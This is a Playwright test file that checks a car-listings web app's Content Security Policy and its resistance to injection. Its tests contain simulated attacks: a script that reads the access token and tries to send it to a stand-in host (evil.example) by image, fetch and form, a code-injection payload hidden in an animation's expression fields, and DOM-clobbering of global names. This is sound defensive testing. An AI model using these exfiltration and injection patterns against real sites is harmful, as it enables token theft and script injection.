import { ROUTES } from '@cars/shared-contracts/shell/route-table';
import { newestAds } from '../../fixtures/ads.ts';
import { expect, test } from '../../fixtures/test.ts';

/** Directives without which a policy would let scripts or data through [E18]. */
const CLOSED = ["default-src 'none'", "object-src 'none'", "base-uri 'none'", "form-action 'none'"];

test('no route violates the content policy', { tag: '@E19' }, async ({ page, request, shell, signIn }) => {
  const [ad] = await newestAds(request);
  await signIn();
  for (const { path } of ROUTES) {
    const address = path.replace('/:page?', '').replace('/car/:id', `/car/${ad?.id}`).replace(':id', '2');
    await shell.open(address);
    await expect(page.locator('#root > *').first(), address).toBeVisible();
    await page.waitForLoadState('networkidle');
  }
  // Reported violations are problems too: the fixture fails the test on the first one.
  const registrations = await page.evaluate(
    async () => (await navigator.serviceWorker.getRegistrations()).length,
  );
  expect(registrations, 'service workers [E19]').toBe(0);
});

test('the policy has none of the common holes', { tag: ['@E18', '@gate'] }, async ({ request }) => {
  const response = await request.get('/catalog');
  const policy = response.headers()['content-security-policy'] ?? '';
  for (const directive of CLOSED) expect(policy).toContain(directive);
  const scripts = /script-src ([^;]+)/.exec(policy)?.[1]?.split(' ') ?? [];
  expect(
    scripts.filter((source) => !/^('self'|'sha(256|384|512)-[\w+/=]+'|https?:\/\/[\w.:-]+)$/.test(source)),
  ).toEqual([]);
  for (const hole of ["'unsafe-inline'", "'unsafe-eval'", "'unsafe-hashes'", 'http:', 'https:', '*'])
    expect(scripts).not.toContain(hole);
  expect(policy).not.toMatch(/(script|connect|frame|worker)-src [^;]*(\bdata:|\bblob:)/);
  expect(policy).toContain("require-trusted-types-for 'script'");
  expect(policy).toMatch(/trusted-types default(;|$)/);
  expect(response.headers()['content-security-policy-report-only']).toBeUndefined();
});

test.describe('an injected script', () => {
  test.use({
    allowedProblems:
      /img-src|connect-src|form-action|unknown host|violates the document's Content Security Policy/,
  });

  test('cannot send the token elsewhere', { tag: ['@E17', '@gate'] }, async ({ page, catalog, signIn }) => {
    await signIn();
    await catalog.open();
    const reached: string[] = [];
    page.on('response', (response) => {
      if (response.url().includes('evil')) reached.push(response.url());
    });
    const blocked = await page.evaluate(async () => {
      const directives: string[] = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        directives.push(effectiveDirective),
      );
      const token = localStorage.getItem('access_token') ?? '';
      const violationsReach = (count: number) =>
        new Promise<void>((resolve) => {
          const look = () => (directives.length >= count ? resolve() : setTimeout(look, 20));
          look();
        });
      new Image().src = `https://evil.example/?${token}`;
      await violationsReach(1);
      await fetch(`https://evil.example/?${token}`).catch(() => undefined);
      await violationsReach(2);
      const form = document.createElement('form');
      form.action = `https://evil.example/?${token}`;
      document.body.append(form);
      form.submit();
      await violationsReach(3);
      return directives;
    });
    expect(blocked).toEqual(['img-src', 'connect-src', 'form-action']);
    expect(reached).toEqual([]);
  });
});

test('code in an animation does not run', { tag: '@E14' }, async ({ page, catalog, fault }) => {
  const expression = '}];window.__xss=1;[function(){';
  await fault(
    'a hostile animation',
    (url) => url.pathname.startsWith('/lottie/'),
    (route) =>
      route.fulfill({
        json: {
          v: '5.7.0',
          fr: 30,
          ip: 0,
          op: 30,
          w: 100,
          h: 100,
          layers: [
            {
              ty: 4,
              nm: 'x',
              ind: 1,
              ip: 0,
              op: 30,
              st: 0,
              ks: { o: { a: 0, k: 100, x: expression }, p: { a: 0, k: [50, 50], x: expression } },
              shapes: [],
            },
          ],
        },
      }),
  );
  await fault(
    'nothing found',
    (url) => url.pathname.startsWith('/api/v2/cars/'),
    (route) =>
      route.fulfill({
        json: { success: true, data: { items: [], current_page: 1, last_page: 1, total: 0, per_page: 16 } },
      }),
  );
  // The plain first page contains its data; a filtered one requests them.
  await page.goto('/catalog?cityId=1');
  await expect(page.getByText('Ничего не найдено').first()).toBeVisible();
  await page.waitForLoadState('networkidle');
  expect(await page.evaluate(() => (window as { __xss?: number }).__xss)).toBeUndefined();
  expect(catalog.page.url()).toContain('/catalog');
});

test('no DOM element replaces a global name', { tag: '@E13' }, async ({ page, catalog }) => {
  await page.addInitScript(() => {
    // Before the first script of the page: every script sees these names.
    new MutationObserver((_, observer) => {
      if (!document.documentElement) return;
      observer.disconnect();
      const names = [
        'carsSimulator',
        'TelegramWebviewProxy',
        'WebViewHandler',
        'WebApp',
        '__carsPrefetch',
        'Telegram',
        'TelegramGameProxy',
      ];
      for (const name of names) {
        const link = document.createElement('a');
        link.id = name;
        document.documentElement.append(link);
      }
      document.documentElement.dataset.scriptsBefore = String(document.scripts.length);
    }).observe(document, { childList: true });
  });
  await catalog.open();
  // The first script is in the document by then, and runs only after this.
  await expect(page.locator('html')).toHaveAttribute('data-scripts-before', /^[01]$/);
  await expect(page.locator('a[id="TelegramWebviewProxy"]')).toHaveCount(1);
  await catalog.links.first().click();
  await expect(page).toHaveURL(/\/car\/\d+$/);
});
